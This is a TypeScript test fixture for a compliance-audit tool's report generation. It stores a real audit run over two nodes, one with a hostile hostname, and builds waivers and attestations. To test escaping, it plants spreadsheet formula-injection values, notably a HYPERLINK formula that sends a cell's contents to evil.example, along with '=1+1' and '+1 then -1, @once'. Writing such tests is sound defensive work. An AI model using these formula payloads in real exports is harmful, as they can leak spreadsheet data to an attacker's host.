// A real stored audit run for the report tests: the built-in policy run by the real runner over
// this machine (the real LocalHost), as two nodes (one named like a hostile hostname), stored in
// a real SQLite file and read back through AuditStore.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'vitest';
import type { Attestation, CheckInfo, FrameworkName, Waiver } from '../../../shared/model/audits';
import { AuditStore, type StoredRun } from '../../../electron/core/compliance/audit-store';
import { COMPLIANCE_ACCESS } from '../../../electron/core/compliance/command-specs';
import { builtInPolicies } from '../../../electron/core/compliance/policy-loader';
import { runAudit } from '../../../electron/core/compliance/runner';
import type { Check, Policy } from '../../../electron/core/compliance/types';
import { ExecPolicy } from '../../../electron/core/hosts/exec-policy';
import { LocalHost } from '../../../electron/core/hosts/local';
import { openDatabase } from '../../../electron/core/store/db';
import { buildReportModel, checkInfoOf, type NodeGroups } from '../../../electron/core/reports/model';
import type { ReportModel } from '../../../electron/core/reports/types';
import { HOSTILE_HOSTNAME } from '../../helpers/ssh-lab';

export const NODE = 'here';
export const HOSTILE = HOSTILE_HOSTNAME;

export interface RealRun {
  policy: Policy;
  checks: CheckInfo[];
  run: StoredRun;
}

export const MANUAL_CHECK = 'rpt-manual-001';
export const MANUAL_REMEDIATION = 'Update the BMC firmware, then reboot.\nSee the "vendor guide", section 3, step 2.';

export const FORMULA_CHECK = 'rpt-manual-002';
export const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"click")';

/** The built-in policy, plus one manual check (it has none): what an auditor answers. */
export function builtInPolicy(): Policy {
  const load = builtInPolicies().find((l) => l.policy?.id === 'gpu-node-baseline');
  expect(load?.errors).toEqual([]);
  const policy = load!.policy!;
  const manual: Check = {
    id: MANUAL_CHECK,
    title: 'BMC firmware is current & "signed" <reviewed by hand>',
    description: 'The BMC runs the vendor firmware, current within 90 days.',
    rationale: 'Out-of-band controllers are a common way in.',
    remediation: MANUAL_REMEDIATION,
    severity: 'high',
    references: { cis: [], nist: ['SI-2', 'CM-6'], ssg: [] },
    applies: {},
    rule: null,
    note: null,
    source: { file: 'test', line: null },
  };
  // A title and remediation a spreadsheet would run as formulas, with a URL in the text.
  const formula: Check = {
    ...manual,
    id: FORMULA_CHECK,
    title: FORMULA_TITLE,
    remediation: '+1 then -1, @once',
    severity: 'low',
    references: { cis: [], nist: ['AU-6'], ssg: [] },
  };
  return { ...policy, checks: [...policy.checks, manual, formula] };
}

export async function realStoredRun(): Promise<RealRun> {
  const policy = builtInPolicy();
  const db = openDatabase(join(mkdtempSync(join(tmpdir(), 'reports-')), 'audit.db'));
  const store = new AuditStore(db);
  const host = (id: string) => new LocalHost(ExecPolicy.of(COMPLIANCE_ACCESS), id);
  const done = await runAudit({
    policy,
    nodes: [
      { nodeId: NODE, host: host(NODE), hostKey: null },
      { nodeId: HOSTILE, host: host(HOSTILE), hostKey: 'SHA256:abc' },
    ],
    save: (run) => store.saveRun(run),
  });
  const run = store.getRun(done.runId!)!;
  db.close();
  return { policy, checks: policy.checks.map(checkInfoOf), run };
}

export function modelOf(
  real: RealRun,
  extra: { attestations?: Attestation[]; waivers?: Waiver[]; nodeGroups?: NodeGroups; nowMs?: number; nodeIds?: string[]; frameworks?: FrameworkName[] } = {},
): ReportModel {
  return buildReportModel({
    run: real.run,
    checks: real.checks,
    policy: { title: real.policy.title, description: real.policy.description },
    attestations: extra.attestations ?? [],
    waivers: extra.waivers ?? [],
    nodeGroups: extra.nodeGroups,
    scope: { nodeIds: extra.nodeIds, frameworks: extra.frameworks },
    nowMs: extra.nowMs ?? real.run.endedAt + 1000,
    version: '0.0.0-test',
  });
}

let nextId = 1;

export function waiver(checkId: string, scope: Waiver['scope'], times: { createdAtMs: number; expiresAtMs: number; revokedAtMs?: number | null }): Waiver {
  return {
    id: nextId++,
    checkId,
    scope,
    justification: 'Vendor image, fixed in Q3, see "ticket" <OPS-1>, risk accepted',
    approver: 'ciso',
    by: 'auditor-ann',
    createdAtMs: times.createdAtMs,
    expiresAtMs: times.expiresAtMs,
    revokedAtMs: times.revokedAtMs ?? null,
    active: true,
  };
}

export function attestation(runId: number | null, nodeId: string, checkId: string, status: Attestation['status'], atMs: number): Attestation {
  return {
    id: nextId++,
    runId,
    nodeId,
    checkId,
    status,
    note: 'Checked the BMC, "ok", =1+1',
    attachments: [{ name: 'bmc.png', sha256: 'a'.repeat(64), bytes: 10 }],
    by: 'auditor-ann',
    atMs,
  };
}
